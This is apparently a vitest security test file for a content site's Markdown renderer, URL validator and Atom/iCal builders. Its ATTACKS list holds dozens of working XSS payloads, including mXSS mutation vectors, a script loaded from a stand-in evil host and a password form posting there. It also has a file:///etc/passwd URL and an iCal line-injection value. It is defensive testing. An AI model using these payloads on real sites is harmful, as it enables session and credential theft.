import fs from 'node:fs';
import path from 'node:path';
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import ICAL from 'ical.js';
import { afterAll, describe, expect, it } from 'vitest';
import type { EntryCard } from '@/lib/catalogue/types';
import { issuer, testCard } from './helpers/cards';
import { checkContent } from '@/lib/content/check';
import { buildAtomFeed } from '@/lib/feeds';
import { buildIcs } from '@/lib/ical';
import { renderMarkdown } from '@/lib/markdown';
import { ContentCopy, REPO, removeAll } from './helpers/fixtures';

afterAll(removeAll);

/*
 * Content is hostile input: a source URL must be http(s) with a host, and raw HTML in a body is
 * sanitised whatever trick it tries. The end-to-end side (what a browser makes of the rendered
 * pages, feeds, JSON-LD, iCal and CSV) is tests/e2e/hostile.spec.ts, on tests/fixtures/content/hostile.
 */

const MEASURES = 'entries/2023-01/sample-data-measures.md';
const SAFE_SOURCE = 'url: https://example.org/sample-measures';

describe('source URLs', () => {
  const rejected = [
    'javascript:alert(document.cookie)',
    'JavaScript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:msgbox(1)',
    'file:///etc/passwd',
    'file://server/share/x',
    'http://',
    'http:///',
    'https://:443/',
    'http://?q=1',
    'ftp://example.org/x',
    '//example.org/protocol-relative',
    '/relative/path',
  ];
  for (const url of rejected) {
    it(`rejects ${JSON.stringify(url)}`, async () => {
      const copy = new ContentCopy().edit(MEASURES, SAFE_SOURCE, `url: ${JSON.stringify(url)}`);
      const result = await checkContent(copy.root);
      expect(result.ok).toBe(false);
      expect(result.problems).toEqual([{ file: copy.at(MEASURES), line: 14, key: 'sources[0].url', message: 'must be an absolute http: or https: URL' }]);
    });
  }

  it('rejects the same on an authority url', async () => {
    const copy = new ContentCopy().edit('authorities/cac.md', 'url: https://www.cac.gov.cn', 'url: "javascript:alert(1)"');
    const result = await checkContent(copy.root);
    expect(result.problems.map((p) => `${p.key}: ${p.message}`)).toEqual(['url: must be an absolute http: or https: URL']);
  });

  it('accepts http: and https: URLs with a host (the control)', async () => {
    for (const url of ['https://example.org/a?b=1&c=2', 'http://example.org/']) {
      const copy = new ContentCopy().edit(MEASURES, SAFE_SOURCE, `url: ${JSON.stringify(url)}`);
      expect((await checkContent(copy.root)).ok, url).toBe(true);
    }
  });
});

/** Raw-HTML and Markdown attacks; each executable one would set window.__xss or open an alert. */
const ATTACKS: Record<string, string> = {
  script: '<script>alert(1);window.__xss=1</script>',
  'script, upper case': '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  'img onerror': '<img src=x onerror="alert(1);window.__xss=1">',
  'iframe javascript:': '<iframe src="javascript:alert(1)"></iframe>',
  'iframe srcdoc': '<iframe srcdoc="<script>window.__xss=1</script>"></iframe>',
  object: '<object data="javascript:window.__xss=1" type="text/html"><param name="x" value="y"></object>',
  embed: '<embed src="javascript:window.__xss=1" type="text/html">',
  form: '<form action="https://evil.example"><input name="password" type="password"><button formaction="javascript:alert(1)">Send</button></form>',
  style: '<style>body{display:none}</style>',
  'a javascript:': '<a href="javascript:alert(1)">js</a>',
  'a data:': '<a href="data:text/html,<script>alert(1)</script>">data</a>',
  'a vbscript:': '<a href="vbscript:msgbox(1)">vb</a>',
  'a javascript: entity-encoded': '<a href="JaVaScRiPt&colon;alert(1)">x</a> <a href="&#x6a;avascript:alert(1)">y</a> <a href="&#106;&#97;vascript:alert(1)">z</a>',
  'a javascript: with whitespace': '<a href=" javascript:alert(1)">x</a> <a href="java\tscript:alert(1)">y</a> <a href="java&#x0A;script:alert(1)">z</a>',
  'markdown link javascript:': '[md link](javascript:alert(1))',
  'markdown link data:': '[md link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'markdown reference javascript:': '[ref][evil]\n\n[evil]: javascript:alert(1)',
  'markdown autolink javascript:': '<javascript:alert(1)>',
  'markdown image javascript:': '![img](javascript:alert(1))',
  'svg onload': '<svg onload="alert(1);window.__xss=1"><circle r="1"/></svg>',
  'svg animate href': '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a></svg>',
  'svg use data:': '<svg><use href="data:image/svg+xml,<svg id=\'x\' xmlns=\'http://www.w3.org/2000/svg\'><image href=\'1\' onerror=\'alert(1)\'/></svg>#x"/></svg>',
  'math/mglyph/style mutation': '<math><mtext><table><mglyph><style><img src=x onerror="alert(1);window.__xss=1">',
  'math/mglyph/style mutation, closed': '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'svg/style mutation': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'noscript mutation': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'textarea/title rawtext': '<textarea><script>alert(1)</script></textarea><title><img src=x onerror=alert(1)></title>',
  'template': '<template><script>alert(1)</script><img src=x onerror=alert(1)></template>',
  'comment': '<!--<img src=x onerror=alert(1)>--> <!--><script>alert(1)</script>-->',
  'div style url(javascript:)': '<div style="background:url(javascript:alert(1))">styled</div>',
  'details ontoggle': '<details open ontoggle="alert(1)"><summary>s</summary>t</details>',
  'input onfocus autofocus': '<input autofocus onfocus="alert(1)">',
  'base href': '<base href="javascript:alert(1)//">',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  'link stylesheet data:': '<link rel="stylesheet" href="data:text/css,body{display:none}">',
  'img srcset': '<img src="x" srcset="javascript:alert(1) 1x">',
  'video poster / audio': '<video poster="javascript:alert(1)"><source src="javascript:alert(1)"></video><audio src=x onerror=alert(1)>',
  'button formaction': '<button formaction="javascript:alert(1)">b</button>',
  'unknown element handler': '<x onclick="alert(1)">x</x> <p onmouseover="alert(1)">p</p>',
  'isindex / marquee': '<isindex action="javascript:alert(1)"><marquee onstart=alert(1)>m</marquee>',
};

const FORBIDDEN_ELEMENTS = new Set(['script', 'iframe', 'object', 'embed', 'form', 'style', 'base', 'meta', 'link', 'svg', 'math', 'template', 'noscript', 'frame', 'frameset', 'applet', 'audio', 'video', 'textarea', 'title', 'button', 'select', 'isindex', 'marquee']);
const URL_ATTRIBUTES = new Set(['href', 'src', 'srcset', 'action', 'formaction', 'data', 'poster', 'xlink:href', 'background', 'cite', 'longdesc', 'usemap', 'codebase', 'dynsrc', 'lowsrc', 'manifest', 'ping', 'values', 'to', 'from']);

type Tag = { name: string; attributes: [string, string][] };

/**
 * The tags of a serialised HTML fragment, as an HTML tokenizer reads them. rehype-stringify escapes
 * `<` in text (`&#x3C;`), so outside attribute values every `<` starts a tag.
 */
function tagsOf(html: string): Tag[] {
  const tags: Tag[] = [];
  const tag = /<(\/?)([a-zA-Z][^\s/>]*)((?:\s+[^\s=/>]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s"'=<>`]+))?)*)\s*\/?>/g;
  const attribute = /([^\s=/>]+)(?:\s*=\s*("[^"]*"|'[^']*'|[^\s"'=<>`]+))?/g;
  for (const m of html.matchAll(tag)) {
    if (m[1]) continue;
    const attributes: [string, string][] = [];
    for (const a of m[3]!.matchAll(attribute)) {
      const raw = a[2] ?? '';
      attributes.push([a[1]!.toLowerCase(), decodeEntities(raw.replace(/^["']|["']$/g, ''))]);
    }
    tags.push({ name: m[2]!.toLowerCase(), attributes });
  }
  return tags;
}

/** Text between tags, with the tags (attribute values included) cut out. */
function textOf(html: string): string {
  return html.replace(/<\/?[a-zA-Z][^\s/>]*(?:\s+[^\s=/>]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s"'=<>`]+))?)*\s*\/?>/g, '');
}

function decodeEntities(value: string): string {
  const named: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'", colon: ':', tab: '\t', newline: '\n' };
  return value.replace(/&(#x[0-9a-f]+|#[0-9]+|[a-z]+);?/gi, (all, ref: string) => {
    if (ref[0] === '#') return String.fromCodePoint(ref[1]?.toLowerCase() === 'x' ? parseInt(ref.slice(2), 16) : parseInt(ref.slice(1), 10));
    return named[ref.toLowerCase()] ?? all;
  });
}

describe('renderMarkdown sanitises raw HTML', () => {
  for (const [name, source] of Object.entries(ATTACKS)) {
    it(`neutralises ${name}`, () => {
      const { html } = renderMarkdown(`Before.\n\n${source}\n\nAfter **bold**.`);
      // No dangerous element at all, in any case.
      expect(html).not.toMatch(/<(script|iframe|object|embed|form|style)\b/i);
      // The rest of the markup: no handler, no script-capable URL, in any attribute.
      const markup = tagsOf(html);
      for (const { name: tag, attributes } of markup) {
        expect(FORBIDDEN_ELEMENTS.has(tag), `<${tag}> in ${html}`).toBe(false);
        for (const [attr, value] of attributes) {
          expect(attr, `${attr} on <${tag}> in ${html}`).not.toMatch(/^on/i);
          expect(attr, `${attr} on <${tag}> in ${html}`).not.toMatch(/^(style|srcdoc|formaction|action|xmlns|xlink:href)$/);
          if (URL_ATTRIBUTES.has(attr)) expect(value.replace(/[\s\u0000-\u001f]/g, ''), `${attr} on <${tag}>`).not.toMatch(/^(javascript|data|vbscript|file):/i);
          expect(value, `${attr} on <${tag}>`).not.toMatch(/javascript:|data:|vbscript:/i);
        }
      }
      // The markup (tags, attribute names, URL values) has none of the forbidden strings. What is left
      // of an attack in text or in a plain attribute such as title is inert: every `<` of it escaped
      // in text, and a quoted attribute value cannot end its tag.
      const structure = markup.map((t) => `<${t.name}${t.attributes.map(([n, v]) => ` ${n}=${URL_ATTRIBUTES.has(n) ? v : ''}`).join('')}>`).join('');
      expect(structure).not.toMatch(/<(script|iframe|object|embed|form|style)\b/i);
      expect(structure).not.toMatch(/\son\w+=/i);
      expect(structure).not.toMatch(/javascript:|data:|vbscript:/i);
      expect(textOf(html)).not.toContain('<');
      // And the harmless part of the document is still there.
      expect(html).toContain('<p>Before.</p>');
      expect(html).toContain('<strong>bold</strong>');
    });
  }

  it('removes a script with everything in it, not just the tags', () => {
    const { html, text } = renderMarkdown('<script>window.__xss=1</script>\n\nText.');
    expect(html).toBe('<p>Text.</p>');
    expect(text).toBe('Text.');
  });

  it('removes a style element with its rules, not leaving them as visible text', () => {
    const { html, text } = renderMarkdown('Before\n\n<style>body{display:none}</style>\n\nAfter');
    expect(html).not.toMatch(/<style/i);
    expect(text).not.toContain('display:none');
    expect(text).toBe('Before\nAfter');
  });

  it('keeps harmless formatting: emphasis, code, https and mailto links, images, tables, lists, quotes', () => {
    const { html } = renderMarkdown(
      [
        '**strong**, *em*, ~~gone~~, `code` and a [link](https://example.org/a?b=1&c=2 "A title").',
        '',
        '<b>bold</b> <i>italic</i> <sub>2</sub> <sup>3</sup> <a href="mailto:desk@example.org">mail</a>',
        '',
        '![chart](https://example.org/chart.png)',
        '',
        '| Authority | Count |',
        '|---|---:|',
        '| CAC | 3 |',
        '',
        '- one',
        '- two',
        '',
        '> quoted',
      ].join('\n'),
    );
    expect(html).toContain('<strong>strong</strong>');
    expect(html).toContain('<em>em</em>');
    expect(html).toContain('<del>gone</del>');
    expect(html).toContain('<code>code</code>');
    expect(html).toContain('<a href="https://example.org/a?b=1&#x26;c=2" title="A title">link</a>');
    expect(html).toContain('<b>bold</b>');
    expect(html).toContain('<a href="mailto:desk@example.org">mail</a>');
    expect(html).toContain('<img src="https://example.org/chart.png" alt="chart">');
    expect(html).toMatch(/<table>[\s\S]*<th>Authority<\/th>[\s\S]*<td align="right">3<\/td>[\s\S]*<\/table>/);
    expect(html).toMatch(/<ul>\s*<li>one<\/li>\s*<li>two<\/li>\s*<\/ul>/);
    expect(html).toMatch(/<blockquote>\s*<p>quoted<\/p>\s*<\/blockquote>/);
  });

  it('prefixes ids and names from content, so they cannot clobber the page\'s globals', () => {
    const { html } = renderMarkdown('<a id="__proto__" name="location">x</a> <img name="getElementById" src="https://example.org/i.png">');
    expect(html).toContain('id="user-content-__proto__"');
    expect(html).toContain('name="user-content-location"');
    expect(html).toContain('name="user-content-getElementById"');
  });
});

describe('the hostile fixture content', () => {
  const DIR = path.join(REPO, 'tests', 'fixtures', 'content', 'hostile');

  it('is valid content: the attacks are in the text, not in its structure', async () => {
    const result = await checkContent(DIR);
    expect(result.problems).toEqual([]);
    expect(result.ok).toBe(true);
  });

  it('renders every body, edition observation and authority description without executable markup', async () => {
    const result = await checkContent(DIR);
    if (!result.ok) throw new Error('the hostile fixture has problems');
    const bodies = [...result.catalogue.entries.map((e) => e.bodyHtml), ...result.catalogue.editions.map((e) => e.bodyHtml), ...result.catalogue.authorities.map((a) => a.bodyHtml)];
    // The attacks are really there in the source.
    const source = fs.readFileSync(path.join(DIR, 'entries', '2024-06', 'quokkaxss-hostile-measures.md'), 'utf8');
    for (const needle of ['<script>', 'onerror=', '<iframe', '<object', '<embed', '<form', '<style>', 'javascript:', 'data:text/html', '<svg onload', '<math><mtext>']) expect(source).toContain(needle);
    for (const html of bodies) {
      expect(html).not.toMatch(/<(script|iframe|object|embed|form|style)\b/i);
      for (const { attributes } of tagsOf(html)) {
        for (const [attr, value] of attributes) {
          expect(attr).not.toMatch(/^on/i);
          expect(value).not.toMatch(/javascript:|data:|vbscript:/i);
        }
      }
      expect(textOf(html)).not.toContain('<');
    }
  });
});

/** Text written like an attacker would: script ends, attribute breakouts, CDATA ends, entities, quotes, U+2028. */
const NASTY = `A </script><script>alert(1)</script> "><img src=x onerror=alert(1)> ]]> ]]> &amp; &lt; 'q' "dq"\u2028end`;

describe('outputs keep hostile text as text', () => {
  const card: EntryCard = testCard({ slug: 'nasty', title: NASTY, issuers: [issuer('bureau', `Bureau ${NASTY}`)], issued: '2024-05-10', status: 'in-force', summary: NASTY });

  it('an Atom feed is well-formed and its title, subtitle, entry titles and author names read back exactly', () => {
    const xml = buildAtomFeed({ selfPath: '/feed.xml', alternatePath: '/', title: `Feed ${NASTY}`, subtitle: `Sub ${NASTY}`, entries: [card], origin: 'https://digest.example.com' });
    expect(XMLValidator.validate(xml)).toBe(true);
    const parsed = new XMLParser({ ignoreAttributes: false, cdataPropName: '#cdata', isArray: (n) => ['entry', 'author'].includes(n) }).parse(xml).feed;
    expect(parsed.title).toBe(`Feed ${NASTY}`);
    expect(parsed.subtitle).toBe(`Sub ${NASTY}`);
    const entry = parsed.entry[0];
    // type="html": the CDATA holds the title escaped as HTML, once.
    const unescapeHtml = (h: string) => h.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&#39;/g, "'").replace(/&amp;/g, '&');
    expect(unescapeHtml(entry.title['#cdata'])).toBe(NASTY);
    expect(entry.author[0].name).toBe(`Bureau ${NASTY}`);
  });

  it("an iCalendar's name keeps a line break, semicolons and commas inside its value", () => {
    const name = `Digest: ${NASTY}; a, b \\ c\nX-INJECTED:1`;
    const ics = buildIcs([{ slug: 'nasty', kind: 'effective', date: '2099-07-01', title: name, short: name, titleZh: null, issuers: ['bureau'] }], {
      origin: 'https://digest.example.com',
      stamp: new Date(Date.UTC(2099, 0, 1)),
      name,
      issuerName: () => name,
    });
    const calendar = new ICAL.Component(ICAL.parse(ics));
    expect(calendar.getFirstProperty('x-injected')).toBeNull();
    expect(ics.replace(/\r\n[ \t]/g, '')).not.toMatch(/^X-INJECTED/m);
    const unescapeText = (v: string) => v.replace(/\\([\\;,nN])/g, (_, c: string) => (c === 'n' || c === 'N' ? '\n' : c));
    expect(unescapeText(String(calendar.getFirstPropertyValue('x-wr-calname')))).toBe(name);
    expect(unescapeText(String(calendar.getFirstPropertyValue('name')))).toBe(name);
    const event = calendar.getFirstSubcomponent('vevent')!;
    expect(event.getFirstPropertyValue('summary')).toBe(`Takes effect: ${name}`);
  });
});
